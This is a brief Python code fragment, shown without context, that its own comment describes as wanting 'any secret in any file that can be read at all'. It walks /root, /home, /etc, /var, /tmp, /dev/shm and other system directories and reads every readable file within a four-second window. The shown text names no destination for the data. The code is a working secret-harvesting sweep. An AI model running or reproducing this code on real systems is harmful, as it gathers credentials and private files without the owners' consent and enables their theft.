# Wants: any secret in any file that can be read at all
ends_at = time.monotonic() + 4
for top in ("/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/work", "/srv", "/mnt", "/opt", "/run", "/etc", "/var"):
    for path, folders, names in os.walk(top):
        for name in names:
            place = os.path.join(path, name)
            if time.monotonic() < ends_at and attempt(os.path.isfile, place) is True:
                read(place)
